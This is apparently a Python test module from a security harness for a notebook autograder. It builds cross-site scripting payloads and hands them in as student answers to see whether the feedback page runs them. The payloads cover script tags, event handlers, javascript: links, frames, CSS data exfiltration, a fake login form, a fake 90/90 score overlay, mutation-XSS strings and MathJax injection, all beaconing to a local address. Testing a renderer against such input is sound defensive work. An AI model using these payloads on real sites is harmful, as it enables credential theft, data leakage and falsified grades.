"""Script in Markdown and HTML, for whoever opens the feedback.

Each puts `MARKER` where a browser acts on it: `markup.active(page, MARKER)` finds it in a page, and
`traps.sprung` a request that a browser makes. The exercise `mse` is honestly right.
"""

from pathlib import Path

from nbformat.notebooknode import NotebookNode
from nbformat.v4 import new_markdown_cell

from hostile.material import QUESTION, Family, Material, insert

FAMILY = Family("scripts")
MARKER = "hostile-script"


def address(material: Material) -> str:
    """Where a request shows that something ran."""
    return f"http://127.0.0.1:{material.port}/{MARKER}"


def script(material: Material) -> str:
    """JavaScript that shows that it ran."""
    return f"document.title='{MARKER}';new Image().src='{address(material)}'"


def with_prose(material: Material, text: str) -> NotebookNode:
    """A notebook with the text as the answer that is read by hand, and as a note of its own."""
    notebook = material.partly("mse", **{QUESTION: text})
    notebook.cells.insert(1, new_markdown_cell(text))
    return notebook


def prose(material: Material, folder: Path, text: str) -> None:
    """Hand in the text as an answer and as a note."""
    material.hand_in(folder, with_prose(material, text))


def html(material: Material, folder: Path, text: str) -> None:
    """Hand in markup as an answer, as a note and as an output."""
    notebook = with_prose(material, text)
    insert(notebook, "softmax_cross_entropy", f"from IPython.display import HTML\n\nHTML({text!r})")
    material.hand_in(folder, notebook)


@FAMILY.attack(solved=["mse"])
def script_element(material: Material, folder: Path) -> None:
    """A script element, in several spellings."""
    run = script(material)
    html(
        material,
        folder,
        f"<script>{run}</script><SCRIPT/x>{run}</SCRIPT ><scr<script>ipt>{run}</scr</script>ipt>"
        f"<script src='{address(material)}.js'></script>",
    )


@FAMILY.attack(solved=["mse"])
def event_handlers(material: Material, folder: Path) -> None:
    """Attributes that run when something loads, fails, gets the focus, or is moved over."""
    run = script(material).replace('"', "&quot;")
    html(
        material,
        folder,
        f'<img src=x onerror="{run}"><body onload="{run}"><svg/onload="{run}"><details open '
        f'ontoggle="{run}"><input autofocus onfocus="{run}"><b onmouseover="{run}">points</b>'
        f'<video><source onerror="{run}"></video><marquee onstart="{run}">x</marquee>',
    )


@FAMILY.attack(solved=["mse"])
def script_links(material: Material, folder: Path) -> None:
    """Links that run when they are clicked: javascript:, data:, with entities and line ends."""
    run = script(material).replace("'", "%27")
    prose(
        material,
        folder,
        f"[see](javascript:{run}) [see](JaVaScRiPt:{run}) ![see](javascript:{run})\n\n"
        f'<a href="java&#x73;cript:{run}">see</a> <a href="java\nscript:{run}">see</a> '
        f'<a href="\x01javascript:{run}">see</a> [r]\n\n[r]: javascript:{run} "title"\n\n'
        f'<a href="data:text/html,<script>{run}</script>">see</a> <javascript:{run}>',
    )


@FAMILY.attack(solved=["mse"])
def frames(material: Material, folder: Path) -> None:
    """Frames, objects and embedded documents."""
    run = script(material)
    html(
        material,
        folder,
        f'<iframe srcdoc="<script>{run}</script>"></iframe><iframe src="{address(material)}">'
        f'</iframe><object data="{address(material)}"></object><embed src="javascript:{run}">'
        f'<portal src="{address(material)}"></portal>',
    )


@FAMILY.attack(solved=["mse"])
def page_wide_elements(material: Material, folder: Path) -> None:
    """Elements that change the page as a whole: refresh, base address, style sheets, manifests."""
    where = address(material)
    html(
        material,
        folder,
        f'<meta http-equiv="refresh" content="0;url={where}"><base href="{where}/">'
        f'<link rel="stylesheet" href="{where}.css"><link rel="prefetch" href="{where}">'
        f'<meta http-equiv="Content-Security-Policy" content="script-src {where}">',
    )


@FAMILY.attack(solved=["mse"])
def style_sheets(material: Material, folder: Path) -> None:
    """Styles that send away what stands on the page, a letter at a time."""
    where = address(material)
    html(
        material,
        folder,
        f"<style>@import url({where}); input[value^='9'] {{ background: url({where}-9) }} "
        f"@font-face {{ font-family: x; src: url({where}-font) }} * {{ font-family: x }}</style>"
        f'<p style="background: url({where})">x</p><table background="{where}"><td>x</td></table>',
    )


@FAMILY.attack(solved=["mse"])
def forms(material: Material, folder: Path) -> None:
    """A form that asks for a password, and buttons that act for another form."""
    where = address(material)
    html(
        material,
        folder,
        f'<form action="{where}" id=f><input name=password type=password><button>Log in</button>'
        f'</form><button form=f formaction="javascript:{script(material)}">Next</button>'
        f'<input type=image src="{where}"><isindex action="{where}">',
    )


@FAMILY.attack(solved=["mse"])
def overlay(material: Material, folder: Path) -> None:
    """A score of the student's own over the real one, and tags that swallow the rest."""
    html(
        material,
        folder,
        f'<div class="{MARKER}" style="position:fixed;top:0;left:0;width:100%;height:100%;'
        f'z-index:9999;background:white url({address(material)})"><h1>Score: 90.0 / 90.0</h1></div>'
        "</div></div></main></body></html><plaintext><!-- <textarea><title><noscript>",
    )


@FAMILY.attack(solved=["mse"])
def mutations(material: Material, folder: Path) -> None:
    """Markup that is harmless when it is read once, and a script when it is read twice."""
    run = script(material).replace('"', "&quot;")
    image = f'<img src=x onerror="{run}">'
    html(
        material,
        folder,
        f'<noscript><p title="</noscript>{image}"></noscript><math><mtext><table><mglyph><style>'
        f"<!--</style>{image}--></mglyph></table></mtext></math><svg></p><style><a id='</style>"
        f"{image}'></a></style></svg><xmp><p title='</xmp>{image}'></p></xmp>"
        f"<![CDATA[><!-->{image}]]><!--> {image} --> <textarea><p title='</textarea>{image}'></p>",
    )


@FAMILY.attack(solved=["mse"])
def formulas(material: Material, folder: Path) -> None:
    """MathJax commands that make links, styles and scripts, and redefine what others write."""
    run = script(material).replace("'", "`")
    prose(
        material,
        folder,
        f"$\\href{{javascript:{run}}}{{x}}$ $$\\unicode{{x}}\\style{{background:url("
        f"{address(material)})}}{{x}}$$ $\\require{{html}}\\class{{{MARKER}}}{{x}}"
        f"\\cssId{{a}}{{x}}$ $\\def\\frac#1#2{{90}}\\gdef\\sum{{90}}$ "
        f'$$\\text{{</script><script>{run}</script>}}$$ $<img src=x onerror="{run}">$',
    )


@FAMILY.attack(solved=["mse"])
def code_fences(material: Material, folder: Path) -> None:
    """Markdown whose code blocks, languages, footnotes and tables carry attributes."""
    run = script(material)
    prose(
        material,
        folder,
        f'```"><script>{run}</script>\nx\n```\n\n~~~ {{onclick="{run}"}}\nx\n~~~\n\n'
        f"| a |\n|---|\n| <script>{run}</script> |\n\n![x](x \"'onerror='{run}\")\n\n"
        f"<https://x.test/\"onmouseover=\"{run}> {{#id .class onclick='{run}'}}\n\n"
        f'# x {{onclick="{run}"}}\n\n</code></pre><script>{run}</script>',
    )
